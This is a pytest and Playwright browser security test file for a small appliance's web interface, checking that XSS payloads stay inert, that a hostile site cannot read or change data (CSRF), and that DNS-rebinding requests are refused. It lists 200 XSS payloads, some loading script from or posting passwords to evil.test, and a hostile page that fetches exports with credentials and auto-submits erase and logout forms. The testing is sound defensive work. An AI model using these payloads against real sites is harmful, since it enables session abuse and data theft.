"""Hostile words, hostile pages, and a name turned round to us: checks 12, 13 and 15, in a browser."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import product
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import Error

from appliance.core.contacts import Contact
from appliance.drivers.people_file import PeopleFile

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Page

    from tests.browser.rig import Site, Watch
    from tests.web.fakes import Box

# What ends the place that words stand in, and what would then run. Together 200.
_ENDS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", '"/onx=', "{{7*7}}")
_DOES = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/a.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onpageshow=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1) id=tap>tap</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<video><source onerror=alert(1)>",
    "<form action=//evil.test><input name=password>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<base href=//evil.test>",
    "<style>*{display:none}</style>",
    "<math><mtext><script>alert(1)</script>",
    "<object data=javascript:alert(1)>",
    "\u202e<script>\u2066alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
PAYLOADS = ["".join(pair) for pair in product(_ENDS, _DOES)]
_INJECTED = """() => [...document.querySelectorAll(
  'script:not([src^="/static/"]), img, iframe, object, embed, base, style, math, video, source, animate,' +
  'noscript, #tap, form[action^="//"], meta[http-equiv]')].map(e => e.outerHTML.slice(0, 100))
  .concat([...document.querySelectorAll('*')].flatMap(e => [...e.attributes])
  .filter(a => a.name.startsWith('on') || a.name === 'style').map(a => a.name))"""


def injected(page: Page, address: str) -> list[str]:
    """Open a page, unfold what is folded, and return what stands on it that is not ours."""
    page.goto(address)
    for more in page.locator("summary").all():
        more.click()
    found: list[str] = page.evaluate(_INJECTED)
    return found


def test_security_check_15_two_hundred_payloads_from_callers_stay_words(
    owner: Page, site: Site, box: Box
) -> None:
    assert len(set(PAYLOADS)) == 200
    with box.journal.transaction():
        for place, payload in enumerate(PAYLOADS):
            box.incoming(f"07700900{place // 100:03}", payload)
            box.incoming(f"07700901{place:03}", payload)
    PeopleFile(box.data).replace_contacts(
        Contact(payload[:60], (f"+447700901{place:03}",)) for place, payload in enumerate(PAYLOADS)
    )
    first = box.journal.search("07700900000", 1)[0]
    second = box.journal.search("07700900001", 1)[0]
    assert first.last is not None
    assert second.last is not None
    newest = max(first.last.id, second.last.id)
    addresses = ["/", f"/calls/t{first.last.id}", f"/calls/t{second.last.id}", "/calls?find=%3Cscript%3E"]
    addresses += [f"/calls/t{newest}", f"/calls/t{newest}/erase", "/settings/numbers"]
    rank: int | None = None
    while people := box.journal.people(20, rank):  # the pages of Calls, one after the other
        addresses.append("/calls" if rank is None else f"/calls?rank={rank}")
        rank = people[-1].rank
    assert len(addresses) > 15
    for address in addresses:
        assert {address: injected(owner, site.url(address))} == {address: []}


@pytest.mark.parametrize("every", [67, pytest.param(1, marks=[pytest.mark.slow, pytest.mark.timeout(1800)])])
def test_security_check_15_two_hundred_payloads_from_the_owner_and_his_network_stay_words(
    owner: Page, site: Site, box: Box, every: int
) -> None:
    for payload in PAYLOADS[::every]:
        shown = "".join(filter(str.isprintable, payload))
        box.set("business", shown[:60])
        box.set("name", shown[:30])
        box.set("text.open", f"[name] {shown}")
        box.status(headline=payload, detail=payload)
        for address in ("/", "/message", "/message/open", "/settings/details", "/setup/text"):
            assert {(address, payload): injected(owner, site.url(address))} == {(address, payload): []}


def test_security_check_15_payloads_that_a_form_brings_back_stay_words(
    owner: Page, site: Site, box: Box
) -> None:
    for start in range(0, len(PAYLOADS), 50):
        owner.goto(site.url("/message/open"))
        owner.get_by_label("Your text").fill(" ".join(PAYLOADS[start : start + 50])[:2000])
        save = owner.get_by_role("button", name="Save", exact=True)
        save.evaluate("button => { button.value = 'check'; }")
        with owner.expect_navigation():
            save.click()
        assert owner.evaluate(_INJECTED) == []


@pytest.mark.parametrize("every", [40, pytest.param(1, marks=[pytest.mark.slow, pytest.mark.timeout(1800)])])
def test_security_check_15_file_names_stay_words(
    owner: Page, site: Site, box: Box, watch: Watch, every: int
) -> None:
    watch.allowed.append("422")
    for payload in PAYLOADS[::every]:
        owner.goto(site.url("/settings/numbers"))
        name = payload.replace("/", "\u2215").replace("\x00", "")
        owner.locator("input[type=file]").set_input_files(
            {"name": f"{name}.vcf", "mimeType": "text/vcard", "buffer": b"no contacts in here"}
        )
        with owner.expect_navigation():
            owner.locator("form:has(input[type=file]) button").click()
        assert owner.evaluate(_INJECTED) == []


EVIL = """<!doctype html><title>evil</title>
<iframe id=framed src="{box}/"></iframe><img src="{box}/pause"><img src="{box}/api/state">
{forms}
<script>
const got = [];
const ask = (path, how) => fetch('{box}' + path, how).then(a => a.text()).then(t => got.push(t), () => {{}});
const all = ['/', '/api/state', '/calls.csv', '/calls/c1/export'].flatMap(path =>
  [ask(path, {{credentials: 'include'}}), ask(path, {{credentials: 'include', mode: 'no-cors'}})]);
const posts = ['/pause', '/calls/c1/erase', '/message/open', '/logout'].map(path =>
  ask(path, {{method: 'POST', credentials: 'include', mode: 'no-cors',
    body: new URLSearchParams({{text: 'Evil'}})}}));
for (const form of document.forms) form.submit();
Promise.all([...all, ...posts]).then(() => {{ window.read = got.join('') }});
</script>"""
_FORM = """<iframe name="f{0}"></iframe>
<form method=post target="f{0}" action="{1}{2}"><input name=text value=Evil></form>"""


@pytest.fixture
def evil(site: Site) -> Iterator[str]:
    """Another website, which the owner opens while signed in. Its address."""
    forms = [
        _FORM.format(place, site.url(""), path)
        for place, path in enumerate(("/pause", "/calls/c1/erase", "/message/open", "/calls/c1", "/logout"))
    ]
    page = EVIL.format(box=site.url(""), forms="".join(forms)).encode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://evil.test:{server.server_port}/"
    server.shutdown()
    thread.join()
    server.server_close()


def test_security_check_12_another_websites_page_changes_and_reads_nothing(
    browser: Browser, site: Site, box: Box, evil: str
) -> None:
    box.texted_call("07700900123")
    context = browser.new_context()
    site.sign_in(context)
    page = context.new_page()
    before = box.settings()
    page.goto(evil)
    page.wait_for_function("window.read !== undefined")
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.read") == ""
    assert [frame.url for frame in page.frames if frame.url.startswith(site.url(""))] == []
    assert box.settings() == before
    assert box.outbox() == []
    assert len(box.journal.person("07700900123", 10)) == 2
    page.goto(site.url("/calls"))  # still signed in
    assert "07700 900123" in page.inner_text("main")
    context.close()


def test_security_check_13_a_name_turned_round_to_the_box_reads_nothing(
    browser: Browser, site: Site, box: Box
) -> None:
    box.texted_call("07700900123")
    context = browser.new_context()
    site.sign_in(context)
    page = context.new_page()
    # The first answer is the attacker's own; then the name leads to us.
    start = site.url("/start", host="evil.test")
    page.route(start, lambda route: route.fulfill(body="evil", content_type="text/html"))
    page.goto(start)
    for path in ("/", "/api/state", "/login", "/calls.csv"):
        read = page.evaluate("path => fetch(path).then(async a => [a.status, await a.text()])", path)
        assert read == [400, ""]
    with pytest.raises(Error, match="ERR_HTTP_RESPONSE_CODE_FAILURE"):  # 400, and not one byte to show
        page.goto(site.url("/", host="evil.test"))
    page.wait_for_url("chrome-error://**")  # the browser's own words for it, which come a moment later
    page.goto(site.url("/"))
    assert "Dave Smith Plumbing" in page.inner_text("h1")
    context.close()
